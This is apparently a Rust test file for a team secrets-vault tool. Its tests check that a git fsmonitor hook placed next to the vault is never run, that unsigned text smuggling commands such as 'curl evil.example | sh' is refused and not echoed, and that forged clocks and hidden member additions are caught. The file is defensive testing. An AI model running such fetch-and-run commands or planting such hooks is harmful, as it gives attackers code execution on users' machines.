//! What a writer prepares before being removed, and what others put beside a vault.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use etui::keys::Identity;
use etui::vault::text::print;
use etui::vault::{ActorId, Vault};

use super::merged::set;
use super::{Team, add, as_writer, git, member, newer, written_by};
use crate::bench::{self, Bench, bytes, public_keys, signed};

/// The file lies in a synchronised folder, so the repository there belongs to the user for git.
#[test]
fn a_repository_beside_the_vault_runs_no_program() {
    let bench = Bench::new();
    bench.etui(["init", "acme", "--as", "alice", "--vault", "real.age"]).ok();
    git(&bench, "init -q");
    let (program, ran) = (bench.work().join("monitor"), bench.work().join("ran"));
    fs::write(&program, format!("#!/bin/sh\ntouch {}\n", ran.display())).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    git(&bench, &format!("config core.fsmonitor {}", program.display()));
    symlink("real.age", bench.work().join("acme.age")).unwrap();
    for command in ["set A -g --value 1", "get A -g", "doctor", "trust", "resolve --output out.env"] {
        bench.etui(command.split(' ').chain(["--vault", "acme.age"]));
        assert!(!ran.exists(), "{command}");
    }
}

#[test]
fn a_text_that_nobody_signed_is_not_repeated() {
    let team = Team::new();
    let text = print(&team.vault());
    for requires in ["shards 0.2 or: curl evil.example | sh", "curl|sh 0.2", "shards https://evil.example"] {
        team.put(&signed(&team.eve, &text.replace("requires = []", &format!("requires = [{requires:?}]"))));
        let refused = team.bench.etui(["get", "A", "-g"]);
        assert_eq!(refused.code, 1);
        assert!(!refused.err.contains("curl") && !refused.err.contains("evil"), "{}", refused.err);
    }
}

/// bob adds somebody in a version that tells nothing else of itself.
#[test]
fn a_new_member_is_noted_whatever_the_version_looks_like() {
    let noted = "members of team acme changed since this laptop last looked: puppet2 was added";
    let all = |team: &Team, vault: Vault| {
        let members = vault.head.members.len();
        let to = std::iter::repeat_n(&team.alice, members);
        bench::sealed(written_by(vault, "bob", &team.bob), to)
    };
    let hidden = |team: &Team, mut vault: Vault| {
        add(&mut vault, "puppet2", public_keys(&team.eve, true), &team.bob);
        all(team, vault)
    };

    // Elsewhere, as if nothing was written.
    let team = Team::new();
    let aside = team.bench.work().join("aside.age");
    fs::write(&aside, hidden(&team, team.vault_now())).unwrap();
    let get = ["get", "A", "-g", "--vault", aside.to_str().unwrap()];
    assert!(team.bench.etui(get).ok().err.contains(noted));
    assert!(!team.bench.etui(get).ok().err.contains("puppet2"), "it is noted once");

    // As if it was from before a removal.
    let team = Team::new();
    let mut vault = team.vault();
    vault.head.removed.clear();
    add(&mut vault, "dan", public_keys(&team.dan, true), &team.bob);
    fs::write(&team.file, hidden(&team, vault)).unwrap();
    let get = ["get", "A", "-g"];
    assert!(team.bench.etui(get).ok().err.contains(noted));
    assert!(!team.bench.etui(get).ok().err.contains("puppet2"), "it is noted once");

    // As a stray copy.
    let team = Team::new();
    let copy = team.bench.work().join("copy.age");
    fs::write(&copy, hidden(&team, team.vault())).unwrap();
    assert!(team.bench.etui(["merge", "copy.age"]).ok().err.contains(noted));
    team.bench.etui(get).prints("the-second").says("");
}

/// dan counted writes of alice's laptop that she had not made, and bob wrote on top of that.
#[test]
fn a_forged_clock_takes_no_removal_back() {
    let team = Team::in_git();
    let base = team.with_dan.clone();
    let mut ours = base.clone();
    as_writer(&team.alice, "alice", |by| ours.remove_member(&member("dan"), by)).unwrap();
    set(&mut ours, "A", "rotated", "alice");
    ours.head.clock.tick(ActorId(0xa));
    let mut theirs = base.clone();
    (0..100).for_each(|_| theirs.head.clock.tick(ActorId(0xa)));
    set(&mut theirs, "B", "bobs", "bob");
    theirs.head.clock.tick(ActorId(0xb));
    let seal = |text: String| bench::sealed(text, std::iter::repeat_n(&team.alice, 5));
    let base = seal(written_by(base, "alice", &team.alice));
    let ours = seal(written_by(ours, "alice", &team.alice));
    let theirs = seal(written_by(theirs, "bob", &team.bob));
    for (first, second) in [(&ours, &theirs), (&theirs, &ours)] {
        fs::remove_file(team.bench.pins()).ok();
        for (name, side) in [("base", &base), ("ours", first), ("theirs", second)] {
            fs::write(team.bench.work().join(name), side).unwrap();
        }
        team.bench.etui(["git", "merge-driver", "base", "ours", "theirs", "acme.age"]).ok();
        fs::copy(team.bench.work().join("ours"), &team.file).unwrap();
        let head = team.vault_now().head;
        assert!(!head.members.contains_key(&member("dan")) && head.removed.len() == 1);
        team.bench.etui(["get", "A", "-g", "--vault", "acme.age"]).prints("rotated");
        team.bench.etui(["get", "B", "-g", "--vault", "acme.age"]).prints("bobs");
    }
}

#[test]
fn a_long_chain_of_members_is_checked_at_once() {
    let team = Team::new();
    let mut vault = newer(team.vault());
    let mut by = Identity::parse_all(&bytes(team.bench.key())).unwrap().remove(0);
    for at in (0..2000).rev() {
        let new = Identity::generate();
        add(&mut vault, &format!("m{at:04}"), public_keys(&new, true), &by);
        by = new;
    }
    let to = std::iter::repeat_n(&team.alice, vault.head.members.len());
    fs::write(&team.file, bench::sealed(written_by(vault, "bob", &team.bob), to)).unwrap();
    let start = std::time::Instant::now();
    team.bench.etui(["get", "A", "-g"]).prints("the-second");
    assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
    if let Ok(keep) = std::env::var("KEEP_CHAIN") {
        fs::create_dir_all(&keep).unwrap();
        fs::copy(&team.file, format!("{keep}/acme.age")).unwrap();
        fs::copy(team.bench.key(), format!("{keep}/identity.txt")).unwrap();
    }
}
